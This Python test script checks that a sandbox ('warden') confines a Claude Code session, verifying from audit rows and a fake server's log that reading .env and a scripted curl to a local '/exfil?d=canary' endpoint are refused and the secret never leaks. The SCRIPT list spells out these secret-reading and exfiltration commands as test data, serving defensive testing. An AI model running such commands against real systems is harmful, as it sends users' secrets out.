#!/usr/bin/env python3
"""Checks a Claude Code session run under warden (tests/agents/run_claude.sh).

Reads `warden audit --format json`, the fake server's request log and the
CLI's output; prints one line per check and, for every failure caused by
warden, the audit rows that show it. Exit 0 when every check passes.
"""

import argparse
import json
import re
import shlex
import sys

# The Claude Code Bash tool wrapper, in the two quotings 2.1.197 produces:
#   ... && eval 'cat README.md' < /dev/null && pwd -P >| /tmp/claude-HEX-cwd
#   ... && eval ls < /dev/null && pwd -P >| /tmp/claude-HEX-cwd
WRAPPER = re.compile(r"(?:^|&& )eval (?P<q>.*) < /dev/null && pwd -P >\| /tmp/claude-[0-9a-f]+-cwd$", re.S)

SCRIPT = ["ls", "cat README.md", "cat .env", "curl -s -m 5 http://127.0.0.1:{port}/exfil?d=canary"]


def inner_of(row):
    """The model's command inside a Claude Code tool wrapper row, or None."""
    req = row.get("request") or {}
    if req.get("inner"):
        return req["inner"]
    argv = req.get("argv") or []
    if len(argv) != 3 or argv[1] != "-c" or not argv[0].endswith("bash"):
        return None
    m = WRAPPER.search(argv[2])
    if not m:
        return None
    try:
        words = shlex.split(m.group("q"))
    except ValueError:
        return None
    return words[0] if len(words) == 1 else None


def short(s, n=110):
    s = s.replace("\n", "\\n")
    return s if len(s) <= n else s[: n - 1] + "…"


def row_line(r):
    return "      #%s pid %s ppid %s %s %s/%s: %s  (%s)" % (
        r["id"],
        r["pid"],
        r["ppid"],
        r["kind"],
        r["decision"],
        r["source"],
        short(r["summary"]),
        short(r.get("reason") or "", 60),
    )


def reaches(r, addr, port):
    """Whether connect row |r| is to |addr|:|port|, by its request's
    address: the summary shows loopback by its /etc/hosts name
    ("connect localhost:PORT (127.0.0.1)")."""
    req = r.get("request") or {}
    return req.get("address") == addr and req.get("port") == port


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--audit-json", required=True)
    ap.add_argument("--requests", required=True)
    ap.add_argument("--stdout", required=True)
    ap.add_argument("--stderr", required=True)
    ap.add_argument("--rc", type=int, required=True)
    ap.add_argument("--secret", required=True)
    ap.add_argument("--home", required=True)
    ap.add_argument("--port", type=int, required=True, help="the fake API's port")
    ap.add_argument("--tier", default="passive")
    a = ap.parse_args()

    rows = json.load(open(a.audit_json))
    reqs = [json.loads(l) for l in open(a.requests) if l.strip()]
    out = open(a.stdout, errors="replace").read()
    err = open(a.stderr, errors="replace").read()

    results = []  # (ok, name, detail lines)
    problems = []  # warden problems: (title, rows)

    def check(ok, name, *detail):
        results.append((bool(ok), name, [d for d in detail if d]))
        return ok

    # -- the session ran to its end -------------------------------------------------
    mains = [r for r in reqs if str(r.get("note", "")).startswith("main")]
    check(
        a.rc == 0 and out.strip().endswith("done") and any(r["note"].startswith("main final") for r in mains),
        "the session ran to its end (exit 0, the scripted final answer \"done\")",
        "      exit status %d, stdout %r, %d main-loop requests" % (a.rc, short(out.strip(), 80), len(mains)),
    )

    # The tool results the model got back, by command, from the last request.
    results_by_cmd = {}
    if mains:
        msgs = (mains[-1].get("body") or {}).get("messages") or []
        uses = {}
        for m in msgs:
            for b in m.get("content") if isinstance(m.get("content"), list) else []:
                if b.get("type") == "tool_use":
                    uses[b.get("id")] = (b.get("input") or {}).get("command")
                elif b.get("type") == "tool_result":
                    c = b.get("content")
                    if isinstance(c, list):
                        c = "".join(x.get("text", "") for x in c if isinstance(x, dict))
                    results_by_cmd[uses.get(b.get("tool_use_id"))] = (c or "", bool(b.get("is_error")))

    # -- the agent's start-up --------------------------------------------------------
    execs = [r for r in rows if r["kind"] == "exec"]
    if not execs:
        check(False, "the audit has exec rows")
        return report(results, problems)
    first = execs[0]
    claude_pid = first["pid"]
    check(
        first["decision"] == "allow" and first["source"] == "startup",
        "the CLI itself was audited as start-up",
        row_line(first),
    )

    # What the CLI process itself started (an exec in a process it forked),
    # not an exec inside something it started (those carry tool_call).
    direct = [r for r in execs[1:] if r["ppid"] == claude_pid and r.get("tool_call") is None]
    calls = [(r, inner_of(r)) for r in direct]
    tool_rows = [(r, c) for r, c in calls if c is not None or WRAPPER.search(" ".join((r["request"].get("argv") or [])))]
    helper_rows = [r for r, c in calls if (r, c) not in tool_rows]

    def argv_of(r):
        return r["request"].get("argv") or []

    env_rows = [r for r in helper_rows if argv_of(r)[1:] == ["-c", "env"]]
    snap_rows = [
        r for r in helper_rows if argv_of(r)[1:3] == ["-c", "-l"] and argv_of(r)[3:4] and argv_of(r)[3].startswith("SNAPSHOT_FILE=")
    ]
    for name, rs in (("bash -c env", env_rows), ("the shell-snapshot login shell (bash -c -l SNAPSHOT_FILE=...)", snap_rows)):
        ok = bool(rs) and all(r["decision"] == "allow" and r["source"] == "startup" for r in rs)
        check(ok, "%s was audited as start-up" % name, *[row_line(r) for r in rs] or ["      (no such row)"])

    # An exec the kernel itself fails (the CLI probing /bin/zsh, ...) is
    # audited with source "decoder": nothing was refused by warden.
    refused_helpers = [r for r in helper_rows if r["decision"] != "allow" and r["source"] != "decoder"]
    other_helpers = [r for r in helper_rows if r not in env_rows and r not in snap_rows]
    check(
        not refused_helpers,
        "every exec the CLI runs itself, outside a tool call, was allowed (%d such execs)" % len(other_helpers),
        *[row_line(r) for r in other_helpers],
    )
    if refused_helpers:
        problems.append(
            (
                "start-up execs of Claude Code %s that policy does not recognise (pol_is_harness_startup) and "
                "no other rule allows: refused by the tier" % "2.1.197",
                refused_helpers,
            )
        )
    not_startup = [r for r in other_helpers if r["decision"] == "allow" and r["source"] != "startup"]
    if not_startup:
        problems.append(
            (
                "(minor) start-up execs allowed, but by the fast path rather than audited as start-up",
                not_startup,
            )
        )

    # -- the three tool calls -----------------------------------------------------------
    def tool_call(cmd):
        for r, c in tool_rows:
            if c == cmd:
                return r
        return None

    def children(r):
        return [x for x in execs if r and x.get("tool_call") == r["id"]]

    # Under --tier aggressive the script leaves `cat .env` out (the tier
    # would allow it); the network checks below hold in every tier.
    expect = [("ls", True), ("cat README.md", True)]
    if a.tier != "aggressive":
        expect.append(("cat .env", False))
    for cmd, want_allow in expect:
        r = tool_call(cmd)
        res, is_err = results_by_cmd.get(cmd, ("", None))
        detail = [row_line(r) if r else "      (no tool-call row with this command)"]
        detail += [row_line(x) for x in children(r)]
        detail.append("      the model got back: %r" % short(res, 150))
        if want_allow:
            ok = (
                r is not None
                and r["decision"] == "allow"
                and r["source"] == "fast_path"
                and r["summary"] == "[claude-code] " + cmd
                and not is_err
            )
            check(ok, "tool call `%s`: allowed by the fast path, summary \"[claude-code] %s\"" % (cmd, cmd), *detail)
            if r is not None and not ok and r["summary"] != "[claude-code] " + cmd:
                problems.append(
                    (
                        "the Bash tool wrapper for `%s` is not recognised as Claude Code's (policy/harness.c "
                        "claude_inner wants eval '...'; 2.1.197 writes %s): decided as a whole shell script, "
                        "so no fast path: %s/%s" % (cmd, shape_of(r), r["decision"], r["source"]),
                        [r],
                    )
                )
        else:
            check(
                r is not None and r["decision"] == "deny" and not children(r),
                "tool call `%s`: refused, nothing ran under it" % cmd,
                *detail,
            )

    res_ls = results_by_cmd.get("ls", ("", True))
    check("README.md" in res_ls[0] and not res_ls[1], "the model got the `ls` listing back", "      %r" % short(res_ls[0], 100))
    res_readme = results_by_cmd.get("cat README.md", ("", True))
    check("Demo project" in res_readme[0], "the model got the README's text back", "      %r" % short(res_readme[0], 100))

    # -- the network ---------------------------------------------------------------
    dest = "127.0.0.1:%d" % a.port
    connects = [r for r in rows if r["kind"] == "connect"]
    own = [r for r in connects if r["pid"] == claude_pid and reaches(r, "127.0.0.1", a.port)]
    check(
        own and all(r["decision"] == "allow" and r["source"] == "harness" for r in own),
        "the CLI's own connections to its API (%s) were allowed by its profile (source harness)" % dest,
        *[row_line(r) for r in own[:3]] or ["      (no connect row of the CLI's own)"],
    )
    curl_cmd = SCRIPT[3].replace("{port}", str(a.port))
    curl_row = tool_call(curl_cmd)
    tool_connects = [r for r in connects if r["pid"] != claude_pid and reaches(r, "127.0.0.1", a.port)]
    refused_connect = (
        curl_row is not None
        and tool_connects
        and all(r["decision"] == "deny" for r in tool_connects)
        and any(r.get("tool_call") == curl_row["id"] for r in tool_connects)
    )
    # Under passive the tier refuses the exec of curl before it runs; the
    # connect is refused whenever curl does run.
    refused_exec = a.tier != "aggressive" and curl_row is not None and curl_row["decision"] == "deny" and not tool_connects
    check(
        refused_connect or refused_exec,
        "tool call `curl http://%s/exfil...`: %s" % (dest, "its exec refused (passive)" if refused_exec else "its connect refused, with a row naming " + dest),
        row_line(curl_row) if curl_row else "      (no tool-call row for curl)",
        *[row_line(r) for r in tool_connects] or ["      (no connect row of a tool's process)"],
    )
    exfil = [r for r in reqs if "/exfil" in str(r.get("path"))]
    check(not exfil, "the fake API never got the tool call's /exfil request", *["      GOT %s" % r["path"] for r in exfil])
    if a.tier == "aggressive":
        # The exfiltration of the network issue: the tier allows curl, not
        # where it connects.
        check(curl_row is not None and curl_row["decision"] == "allow",
              "under --tier aggressive the curl exec itself was allowed (the connect is what is refused)",
              row_line(curl_row) if curl_row else "      (no row)")

    # -- the secret --------------------------------------------------------------------
    leaks = []
    if a.secret in out:
        leaks.append("claude's stdout")
    if a.secret in err:
        leaks.append("claude's/warden's stderr")
    for r in reqs:
        if a.secret in json.dumps(r.get("body")):
            leaks.append("a request to the API (%s %s, %s)" % (r["method"], r["path"], r.get("note")))
            break
    check(not leaks, "the .env secret appears neither in the CLI's output nor in anything sent to the model", *["      LEAKED into " + l for l in leaks])

    # -- opens decided by the view ---------------------------------------------------------
    opens = [r for r in rows if r["kind"] == "open"]
    if opens:
        results.append((True, "(info) opens decided by the project view: %d" % len(opens), [row_line(r) for r in opens]))

    return report(results, problems)


def shape_of(r):
    argv = r["request"].get("argv") or []
    m = WRAPPER.search(argv[2]) if len(argv) == 3 else None
    return "eval %s < /dev/null" % m.group("q") if m else "an unexpected shape"


def report(results, problems):
    print("== checks")
    for ok, name, detail in results:
        print("%s  %s" % ("ok  " if ok else "FAIL", name))
        for d in detail:
            print(d)
    failed = sum(1 for ok, _, _ in results if not ok)
    if problems:
        print()
        print("== what warden did to Claude Code (warden problems, not the CLI's)")
        for title, rows in problems:
            print("  - " + title)
            for r in rows:
                print(row_line(r))
    print()
    print("%d of %d checks passed" % (len(results) - failed, len(results)))
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
